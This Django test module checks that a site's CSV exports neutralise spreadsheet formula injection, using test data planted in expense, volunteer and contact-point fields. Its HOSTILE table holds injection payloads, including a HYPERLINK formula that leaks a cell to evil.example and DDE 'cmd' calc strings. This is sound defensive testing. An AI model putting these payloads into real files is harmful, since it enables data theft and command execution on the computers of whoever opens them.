"""Every CSV file the site gives is safe to open in a spreadsheet program.

Text people type (an expense's purpose, a volunteer's name, a contact point's or commitment
area's name) is set to formulas a spreadsheet would run; then every named URL is asked for by
each role the authorisation matrix lets in, and every CSV that comes back is read cell by cell.
A new export is covered as soon as it has a URL. And only `mysteryshop.spreadsheets` writes CSV.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from django.conf import settings
from django.db import transaction
from django.urls import reverse

from conftest import sign_in_as
from mysteryshop.access import ACCESS, OK
from mysteryshop.spreadsheets import FORMULA_STARTS, safe_cell

from .world import URL_KWARGS, named_urls

HOSTILE = {
    "expense purpose": '=HYPERLINK("http://evil.example/?d="&A1,"Receipt")',
    "expense item": "@SUM(1+1)*cmd|' /C calc'!A0",
    "volunteer name": "+44 Quillfeather",
    "contact point": "-2+3+cmd|' /C calc'!A0",
    "commitment area": "\t=1+1",
    "another expense item": "\r=1+1",
}
NUMBER = re.compile(r"-?\d+(\.\d+)?")
ROLES = ("coordinator", "commissioner", "force_liaison", "volunteer", "applicant")


def _make_hostile(world) -> None:
    from reports.models import GeneratedReport, GenerationStatus, ReportKind
    from reports.services import generate_report
    from scenarios.models import CommitmentArea, ContactPoint
    from visits.models import Submission
    from volunteers.models import ExpenseClaim, ExpenseItem, Volunteer

    from .factories import UserFactory

    ExpenseClaim.objects.filter(pk=world.expense.pk).update(purpose=HOSTILE["expense purpose"])
    ExpenseItem.objects.filter(claim=world.expense).update(description=HOSTILE["expense item"])
    ExpenseItem.objects.create(
        claim=world.expense,
        kind=ExpenseItem.Kind.PARKING,
        amount_pence=250,
        description=HOSTILE["another expense item"],
    )
    Volunteer.objects.filter(pk=world.owner.pk).update(first_name=HOSTILE["volunteer name"])
    from volunteers import services as volunteer_services

    decider = UserFactory(roles=["Coordinator"])
    volunteer_services.decide_expense_claim(claim=world.expense, by=decider, approve=True)
    point = world.released_point
    ContactPoint.objects.filter(pk=point.pk).update(name=HOSTILE["contact point"])
    report = Submission.objects.get(pk=world.released_report.pk)
    area_ids = report.answers.exclude(question__commitment_area=None).values("question__commitment_area")
    for area in CommitmentArea.objects.filter(pk__in=area_ids):  # names are unique
        CommitmentArea.objects.filter(pk=area.pk).update(name=f"{HOSTILE['commitment area']} {area.slug}")
    # The world's report document, made again for the released quarter, so its labels are the hostile names.
    GeneratedReport.objects.filter(pk=world.document.pk).update(
        kind=ReportKind.PANEL, period_start=world.released_quarter, status=GenerationStatus.QUEUED
    )
    assert generate_report(report_id=world.document.pk), GeneratedReport.objects.get(pk=world.document.pk).error


def _csv_files(world, client) -> dict[str, list[list[str]]]:
    """Every CSV any role gets from any named URL, read as a spreadsheet program would read its cells."""
    found = {}
    for role in ROLES:
        client.logout()
        sign_in_as(client, world.users[role])
        for name, _route in named_urls():
            access = ACCESS[name]
            if access.outcomes[role] != OK or access.method != "GET" or name == "logout":
                continue
            url = reverse(name, kwargs=URL_KWARGS[name](world) if name in URL_KWARGS else {})
            with transaction.atomic():
                response = client.get(url)
                transaction.set_rollback(True)
            is_csv = response.get("Content-Type", "").startswith("text/csv") or ".csv" in response.get(
                "Content-Disposition", ""
            )
            if response.status_code == 200 and is_csv:
                body = b"".join(response.streaming_content) if response.streaming else response.content
                found[f"{name} as {role}"] = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    return found


def test_every_csv_export_neutralises_formulas(world, client):
    _make_hostile(world)
    files = _csv_files(world, client)
    assert {name.split(" as ")[0] for name in files} >= {"volunteers:expense-export", "reports:document-csv"}
    problems = []
    for name, rows in files.items():
        for row in rows:
            problems += [
                f"{name}: {cell!r}" for cell in row if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)
            ]
    assert not problems, "Cells a spreadsheet would run as formulas:\n" + "\n".join(problems)
    cells = {cell for rows in files.values() for row in rows for cell in row}
    missing = [what for what, text in HOSTILE.items() if not any(cell.startswith("'" + text) for cell in cells)]
    assert not missing, f"The hostile text never reached a CSV, so the walk proves nothing for: {missing}"


def test_numbers_stay_numbers_and_text_is_never_a_formula():
    assert [safe_cell(value) for value in (-1.5, 0, 12, None, "-1.5", "=1", "Ada")] == [
        -1.5, 0, 12, "", "'-1.5", "'=1", "Ada",
    ]  # fmt: skip


def test_only_the_one_csv_writer_writes_csv():
    """Anything else writing CSV would skip the formula check: use `mysteryshop.spreadsheets`."""
    writer = re.compile(r"\bcsv\.(writer|DictWriter)\b|\bfrom csv import\b[^\n]*\b(writer|DictWriter)\b")
    root = Path(settings.BASE_DIR)
    offenders = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root)
        # bench/ writes CSV for PostgreSQL's COPY, never for a person.
        if relative.parts[0] in (".venv", "node_modules", "bench") or "tests" in relative.parts:
            continue
        if relative != Path("mysteryshop/spreadsheets.py") and writer.search(path.read_text()):
            offenders.append(str(relative))
    assert not offenders, f"Write CSV with mysteryshop.spreadsheets instead, in: {offenders}"
